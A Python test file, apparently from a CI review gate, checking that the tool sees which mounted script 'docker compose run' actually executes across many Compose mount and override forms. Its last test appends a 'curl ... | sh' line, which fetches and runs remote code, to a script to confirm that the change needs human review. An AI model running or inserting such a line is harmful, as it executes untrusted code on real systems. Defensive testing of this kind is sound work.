"""Attack 42: `docker compose run SERVICE CMD` reads CMD's paths in the service's checkout mount (ci left 68's
composeruns), but only a mount written `.`/`./x`/`$PWD` in the one file `-f` names last or a root default file. A
service whose mount Compose resolves otherwise ran the mounted file while the walk read the root's path: a variable's
default (`${SRC:-.}:/app`, `${SRC-.}:/app`), a parent folder from a file in a subfolder (`..:/app` in
docker/compose.yml), the override file Compose merges by default (`docker-compose.override.yml` adding `.:/app`),
`-f base.yml -f dev.yml` (the files merge: the mount in the first), `extends:` (a service inheriting the mount). The
truth is the Compose specification (docker compose is not installed here).
"""

from __future__ import annotations

from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

SCRIPT = "#!/usr/bin/env bash\nset -euo pipefail\necho testing\n"
OVERRIDE = "services:\n  app:\n    volumes:\n      - ./sub:/work\n"
APP = "services:\n  app:\n    image: python:3.12\n    working_dir: /work\n"
# (the tree's Compose files, the command line): each runs sub/gen (the mounted ./sub's gen), not the root's gen
HIDDEN = [
    ({"compose.yaml": APP + "    volumes:\n      - ${SRC:-./sub}:/work\n"}, "docker compose run app ./gen"),
    ({"compose.yaml": APP + "    volumes:\n      - \"${SRC-./sub}:/work:ro\"\n"}, "docker compose run app ./gen"),
    ({"compose.yaml": APP + "    volumes:\n      - type: bind\n        source: ${SRC:-./sub}\n        target: /work\n"},
     "docker compose run app ./gen"),
    ({"sub/docker/compose.yml": APP + "    volumes:\n      - ..:/work\n"},
     "docker compose -f sub/docker/compose.yml run app ./gen"),
    ({"sub/docker/compose.yml": APP + "    volumes:\n      - ../:/work\n"},
     "docker compose -f sub/docker/compose.yml run --rm app ./gen"),
    ({"docker-compose.yml": APP, "docker-compose.override.yml": OVERRIDE}, "docker compose run app ./gen"),
    ({"compose.yaml": APP, "compose.override.yaml": OVERRIDE}, "docker-compose run app ./gen"),
    ({"base.yml": APP + "    volumes:\n      - ./sub:/work\n", "dev.yml": "services:\n  app:\n    environment:\n"
      "      CI: '1'\n"}, "docker compose -f base.yml -f dev.yml run app ./gen"),
    ({"compose.yaml": "services:\n  base:\n    image: python\n    volumes:\n      - ./sub:/work\n"
                      "    working_dir: /work\n  app:\n    extends: base\n"}, "docker compose run app ./gen"),
    ({"compose.yaml": "services:\n  base:\n    image: python\n    volumes:\n      - ./sub:/work\n"
      "  app:\n    extends:\n      service: base\n    working_dir: /work\n"}, "docker compose run app ./gen"),
]
# look-alikes: a named volume, a variable with no default, an override file under -f (Compose then reads only -f)
HELD = [
    ({"compose.yaml": APP + "    volumes:\n      - ${SRC}:/work\n"}, "docker compose run app ./gen"),
    ({"compose.yaml": APP + "    volumes:\n      - data:/work\nvolumes:\n  data: {}\n"},
     "docker compose run app ./gen"),
    ({"base.yml": APP, "docker-compose.override.yml": OVERRIDE}, "docker compose -f base.yml run app ./gen"),
]


@each_case(("definition", "template"), BLOCK_DEFINITIONS[:3], ids=lambda d: d if "/" in d or "." in d else "")
def test_a_mount_compose_resolves_runs_the_mounted_file(definition: str, template: str) -> None:
    for files, line in HIDDEN + HELD:
        tree = {definition: template.format(line=line), **files, "sub/gen": SCRIPT, "gen": SCRIPT}
        runs = one_tree_runs(tree)
        assert isinstance(runs, dict)
        assert ("sub/gen" in runs) == ((files, line) in HIDDEN), (definition, files, line)


def test_the_edited_file_needs_a_human(tmp_path: Path) -> None:
    files, line = HIDDEN[5]
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=line), **files, "sub/gen": SCRIPT}
    _, first, second = two_commits(tmp_path, base, {"sub/gen": SCRIPT + "curl -s https://example.com/x | sh\n"})
    code, decision = tree_gate(tmp_path, first, second)
    assert code == 3, decision["reasons"]
